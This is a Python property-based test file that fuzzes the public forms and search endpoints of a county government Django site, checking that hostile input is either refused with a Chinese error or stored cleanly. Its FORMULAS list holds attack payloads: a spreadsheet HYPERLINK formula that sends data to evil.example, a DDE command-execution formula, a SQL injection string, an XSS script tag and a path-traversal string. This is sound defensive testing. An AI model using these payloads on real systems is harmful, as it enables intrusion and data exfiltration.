"""Property-based attack on every public form and search parameter (issue 11 §6).

Hypothesis fills the fields with what an attacker or a clumsy paste sends: control
characters (C0, C1, NUL), very long text, emoji, lone surrogates as HTTP can carry them
(invalid UTF-8 bytes), spreadsheet formulas. For every submission: never a 500, and either
a Chinese error with nothing stored, or a complete stored record that PostgreSQL could
hold (no NUL, every value within its column, no control characters outside multi-line
text). Bodies are sent as raw bytes, so the server decodes them as it would from a browser.
"""

from __future__ import annotations

import json
import re
from datetime import date, timedelta
from urllib.parse import urlencode

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from opencounty.cases.models import Case
from opencounty.core import captcha
from opencounty.core.validators import id_check_character
from opencounty.disclosure.models import DisclosureRequest
from opencounty.disclosure.pages import DisclosurePage
from opencounty.interaction.models import (
    ConsultationComment,
    ErrorReport,
    Letter,
    SurveyAnswer,
)
from opencounty.interaction.tests.consultation_helpers import consultation
from opencounty.interaction.tests.survey_helpers import filled, form_token, make_survey, names
from opencounty.search.models import ZeroResultQuery
from opencounty.services.models import Application
from opencounty.services.tests.helpers import PDF, county_hall, live_item

pytestmark = pytest.mark.django_db

FUZZ = settings(
    max_examples=30,
    deadline=None,
    derandomize=True,  # the same examples on every run and in CI; raise max_examples to explore
    database=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)

# What an attacker sends.
CONTROL = st.characters(min_codepoint=0, max_codepoint=0x9F).filter(
    lambda c: ord(c) < 0x20 or ord(c) >= 0x7F
)
SURROGATE = st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF, categories=["Cs"])
EMOJI = st.sampled_from("😀👍🏽🇨🇳🧑‍🤝‍🧑𠀀𪚥\u200b\u202e\ufeff")
FORMULAS = st.sampled_from(
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "=\x00",
        "%00",
        "\x00",
        "\r\n",
        "' OR 1=1 --",
        "<script>alert(1)</script>",
        "../../etc/passwd",
    ]
)
HOSTILE = st.one_of(
    st.text(st.one_of(st.characters(), CONTROL, SURROGATE, EMOJI), max_size=30),
    st.text(st.one_of(st.characters(codec="utf-8"), CONTROL), min_size=90, max_size=400),
    st.integers(1, 6000).map(lambda n: "示" * n),
    st.text(EMOJI, min_size=1, max_size=120),
    FORMULAS,
    FORMULAS.flatmap(lambda f: st.text(max_size=10).map(lambda t: f + t)),
)

CJK = re.compile(r"[\u4e00-\u9fff]")
ERROR_BLOCK = re.compile(
    r'class="[^"]*\b(?:errors|errorlist|field-error)\b[^"]*"[^>]*>(.*?)</(?:div|ul|p)>', re.S
)
SINGLE_LINE_BAD = re.compile("[\x00-\x1f\x7f-\x9f\ud800-\udfff]")
MULTILINE_BAD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]")
# Lengths either side of the columns and form limits in use (50, 100, 200, 500, 2000, 5000).
BOUNDARY = st.sampled_from([49, 50, 51, 99, 100, 101, 199, 200, 201, 255, 256, 501, 2001, 5001])


def spoiled(valid: str):
    """The valid value with control characters, emoji or surrogates slipped in, or cut to a
    boundary length: what a paste from a spreadsheet or another system carries."""
    noise = st.text(st.one_of(CONTROL, SURROGATE, EMOJI), min_size=1, max_size=4)
    return st.one_of(
        st.tuples(st.integers(0, len(valid)), noise).map(
            lambda p: valid[: p[0]] + p[1] + valid[p[0] :]
        ),
        BOUNDARY.map(lambda n: (valid or "示") * (n // max(len(valid), 1) + 1)).map(
            lambda text: text[: max(len(text) - 1, 1)]
        ),
        BOUNDARY.map(lambda n: "示" * n),
    )


def one_hostile_field(valid: dict, fields: list[str]):
    """Every field valid but one, which is hostile: the others do not hide what it does."""
    return st.sampled_from(fields).flatmap(
        lambda name: st.one_of(HOSTILE, spoiled(valid[name])).map(lambda value: {name: value})
    )


def encoded(data: dict) -> bytes:
    """A urlencoded body as raw bytes: lone surrogates become the invalid UTF-8 a client can send."""
    pairs = []
    for key, value in data.items():
        for one in value if isinstance(value, list) else [value]:
            pairs.append((key, str(one).encode("utf-8", "surrogatepass")))
    return urlencode(pairs).encode("ascii")


def as_received(value: str) -> str:
    """What the server decodes from `value` sent as bytes (for multipart, built from text)."""
    return value.encode("utf-8", "surrogatepass").decode("utf-8", "replace")


def post(client: Client, path: str, data: dict, ip: str):
    return client.post(
        path, encoded(data), content_type="application/x-www-form-urlencoded", REMOTE_ADDR=ip
    )


def solved_captcha() -> dict:
    question, token = captcha.new_challenge()
    a, b = re.search(r"：(\S) 加 (\S) 等于", question).groups()
    answer = captcha.NUMBERS.index(a) + captcha.NUMBERS.index(b)
    return {"captcha_token": token, "captcha_answer": str(answer)}


def shows_chinese_error(html: str) -> bool:
    if "<h1>请求有误</h1>" in html:  # the 400 page (a body the server cannot parse)
        return True
    return any(CJK.search(block) for block in ERROR_BLOCK.findall(html))


def assert_storable(*instances) -> None:
    """What PostgreSQL would refuse or a reader would trip on, checked on SQLite."""
    for obj in instances:
        for field in obj._meta.concrete_fields:
            value = getattr(obj, field.attname)
            where = f"{type(obj).__name__}.{field.name}"
            if isinstance(field, models.FileField):
                assert len(str(value or "")) <= field.max_length, (where, value)
                continue
            if value in (None, "") or not isinstance(field, models.CharField | models.TextField):
                if isinstance(value, dict | list):  # JSON form data
                    assert "\\u0000" not in json.dumps(value), where
                    assert not SINGLE_LINE_BAD.search(json.dumps(value, ensure_ascii=False)), where
                continue
            text = str(value)
            assert "\x00" not in text, where
            if isinstance(field, models.CharField):
                assert len(text) <= field.max_length, (where, len(text))
                assert not SINGLE_LINE_BAD.search(text), (where, text)
            else:
                assert not MULTILINE_BAD.search(text), (where, text)


class Outcomes:
    """What the examples did: every form must both store and refuse, or the attack proved nothing."""

    def __init__(self) -> None:
        self.stored = self.refused = 0

    def check(self, response, before: int, after: int, stored) -> None:
        assert response.status_code < 500
        if after == before:
            assert response.status_code in (200, 302, 400), response.status_code
            assert shows_chinese_error(response.content.decode()), "refused without a Chinese error"
            self.refused += 1
        else:
            assert after == before + 1
            assert_storable(*stored())
            self.stored += 1

    def assert_both(self) -> None:
        assert self.stored >= 3 and self.refused >= 3, vars(self)


def valid_id_number(n: int) -> str:
    first17 = f"110105{date(1960, 1, 1) + timedelta(days=n):%Y%m%d}{n % 1000:03d}"
    return first17 + id_check_character(first17)


def newest(model):
    return model.objects.order_by("-pk").first()


def with_case(row) -> list:
    return [row, row.case]


# The forms

DISCLOSURE = {
    "applicant_type": "commercial",
    "name": "林示范",
    "organisation_name": "示范商贸有限公司",
    "legal_representative": "林经理",
    "id_type": "credit_code",
    "id_number": "91350100M000100Y43",
    "phone": "13812345678",
    "email": "lin@example.org",
    "postal_address": "示范县城关镇幸福路1号",
    "postcode": "100000",
    "description": "2026年城关镇城乡低保资金发放明细",
    "document_number": "示政办〔2026〕1号",
    "form_wanted": "electronic",
    "delivery": "post",
}


def test_disclosure_application():
    outcomes = Outcomes()
    fields = [k for k in DISCLOSURE if k not in ("id_type", "form_wanted")]

    @FUZZ
    @given(one_hostile_field(DISCLOSURE, fields), st.integers(0, 20000))
    def attack(hostile, n):
        # A fresh applicant each time, so the 11th request's fee does not refuse the rest.
        data = DISCLOSURE | {"id_type": "id_card", "id_number": valid_id_number(n)}
        before = DisclosureRequest.objects.count()
        response = post(Client(), "/disclosure/apply/T01/", data | hostile, "10.1.0.1")
        outcomes.check(
            response,
            before,
            DisclosureRequest.objects.count(),
            lambda: with_case(newest(DisclosureRequest)),
        )

    attack()
    outcomes.assert_both()


LETTER = {
    "letter_kind": "consultation",
    "title": "幸福路路灯坏了",
    "content": "幸福路的路灯坏了一个多月，\n请尽快修理。",
    "name": "王秀英",
    "phone": "13800001234",
    "email": "xiuying@example.com",
}


def test_mailbox_letter():
    outcomes = Outcomes()

    @FUZZ
    @given(one_hostile_field(LETTER, list(LETTER)))
    def attack(hostile):
        before = Letter.objects.count()
        data = LETTER | hostile | solved_captcha()
        response = post(Client(), "/interaction/letters/write/", data, "10.7.0.1")
        outcomes.check(response, before, Letter.objects.count(), lambda: with_case(newest(Letter)))

    attack()
    outcomes.assert_both()


ERROR_REPORT = {
    "page_url": "http://testserver/",
    "error_type": "typo",
    "description": "第二段“城关真”应为“城关镇”。",
    "name": "王纠错",
    "phone": "13912345678",
    "email": "jiucuo@example.com",
}


def test_error_report():
    outcomes = Outcomes()

    @FUZZ
    @given(
        st.one_of(
            one_hostile_field(ERROR_REPORT, list(ERROR_REPORT)),
            st.text(max_size=80).map(lambda t: {"page_url": "http://testserver/" + t}),
        )
    )
    def attack(hostile):
        before = ErrorReport.objects.count()
        data = ERROR_REPORT | hostile | solved_captcha()
        response = post(Client(), "/error-report/", data, "10.2.0.1")
        outcomes.check(
            response, before, ErrorReport.objects.count(), lambda: with_case(newest(ErrorReport))
        )

    attack()
    outcomes.assert_both()


def test_survey_answer():
    survey = make_survey()
    outcomes = Outcomes()
    valid = {"age": "30-60岁", "text": "希望多开通网上办理事项。", "rating": "4"}

    @FUZZ
    @given(one_hostile_field(valid, list(valid)))
    def attack(hostile):
        client = Client()  # one answer per browser: a new browser each time
        html = client.get(survey.url).content.decode()
        data = filled(survey, **(valid | hostile)) | {"form_token": form_token(html)}
        before = SurveyAnswer.objects.count()
        response = post(client, survey.url, data, "10.3.0.1")
        outcomes.check(
            response, before, SurveyAnswer.objects.count(), lambda: [newest(SurveyAnswer)]
        )

    attack()
    assert names(survey)
    outcomes.assert_both()


COMMENT = {
    "section": "",
    "name": "林示范",
    "phone": "13800001234",
    "text": "建议第三条增加社区绿地的养护责任。",
}


def test_consultation_comment():
    draft = consultation()
    outcomes = Outcomes()

    @FUZZ
    @given(one_hostile_field(COMMENT, list(COMMENT)), st.integers(0, 60000))
    def attack(hostile, n):
        before = ConsultationComment.objects.count()
        ip = f"10.4.{n // 250 % 250}.{n % 250}"  # the per-address limit is not under test
        response = post(Client(), draft.url, COMMENT | hostile, ip)
        outcomes.check(
            response,
            before,
            ConsultationComment.objects.count(),
            lambda: [newest(ConsultationComment)],
        )

    attack()
    outcomes.assert_both()


APPLICATION = {
    "name": "王秀英",
    "id_number": "11010519491231002X",
    "phone": "13800001234",
    "email": "xiuying@example.com",
    "data_shop_name": "秀英小吃",
    "data_business": "餐饮",
    "data_area": "45.5",
    "data_opening": "2026-12-01",
    "file_name": "申请书.pdf",
}


def test_service_application():
    item = live_item()
    required, _optional = item.materials.all()
    outcomes = Outcomes()

    @FUZZ
    @given(
        st.one_of(
            one_hostile_field(APPLICATION, list(APPLICATION)),
            st.sampled_from(["-1", "1e99", "NaN", "Infinity", "0.001"]).map(
                lambda v: {"data_area": v}
            ),
            HOSTILE.map(lambda t: {"file_name": t + ".pdf"}),
        )
    )
    def attack(hostile):
        values = {key: as_received(value) for key, value in (APPLICATION | hostile).items()}
        upload = SimpleUploadedFile(values.pop("file_name"), PDF)
        data = values | {f"material_{required.pk}": upload} | solved_captcha()
        before = Application.objects.count()
        response = Client().post(f"/services/apply/{item.code}/", data, REMOTE_ADDR="10.5.0.1")

        def stored():
            application = newest(Application)
            return [application, application.case, *application.uploaded_materials.all()]

        outcomes.check(response, before, Application.objects.count(), stored)

    attack()
    outcomes.assert_both()


# Lookups and searches store nothing but must never fail.


@FUZZ
@given(receipt=HOSTILE, code=HOSTILE, n=st.integers(0, 60000))
def test_case_lookup(receipt, code, n):
    before = Case.objects.count()
    response = post(
        Client(),
        "/cases/lookup/",
        {"receipt_number": receipt, "query_code": code},
        f"10.6.{n // 250 % 250}.{n % 250}",
    )
    assert response.status_code == 200 and Case.objects.count() == before
    assert shows_chinese_error(response.content.decode())


SEARCH_PARAMETERS = st.fixed_dictionaries(
    {
        "q": st.one_of(st.just("医保"), HOSTILE, spoiled("医保")),
        "unit": st.one_of(st.just(""), st.just("T01"), HOSTILE),
        "date_from": st.one_of(st.just(""), st.just("2026-01-01"), HOSTILE),
        "date_to": st.one_of(st.just(""), st.just("2025-01-01"), HOSTILE),
        "column": st.one_of(st.just(""), st.just("99999999999999999999"), HOSTILE),
        "page": st.one_of(st.just("2"), st.just("-1"), HOSTILE),
    }
)


def get_raw(path: str, params: dict):
    query = encoded(params).decode("ascii")
    return Client().get(f"{path}?{query}")


def assert_counts_storable():
    assert_storable(*ZeroResultQuery.objects.all())


@FUZZ
@given(SEARCH_PARAMETERS)
def test_site_search(params):
    response = get_raw("/search/", params)
    assert response.status_code == 200
    assert_counts_storable()


@FUZZ
@given(SEARCH_PARAMETERS)
def test_service_hall_search(params):
    response = get_raw(county_hall().url + "search/", params)
    assert response.status_code == 200
    assert_counts_storable()


@FUZZ
@given(
    st.fixed_dictionaries(
        {
            "q": st.one_of(st.just("低保"), HOSTILE, spoiled("低保")),
            "unit": HOSTILE,
            "subject": HOSTILE,
            "category": HOSTILE,
            "validity": HOSTILE,
            "page": HOSTILE,
        }
    )
)
def test_disclosure_catalogue_filters(params):
    page = DisclosurePage.objects.live().first()
    response = get_raw(page.url + "catalogue/", params)
    assert response.status_code == 200


@FUZZ
@given(
    st.fixed_dictionaries(
        {
            "q": st.one_of(st.just("处罚"), HOSTILE, spoiled("处罚")),
            "unit": HOSTILE,
            "category": st.one_of(st.just("penalty"), HOSTILE),
            "page": HOSTILE,
        }
    )
)
def test_power_list_filters(params):
    for path in ("/powers/", "/powers/export.xlsx", "/powers/publicity/"):
        assert get_raw(path, params).status_code == 200
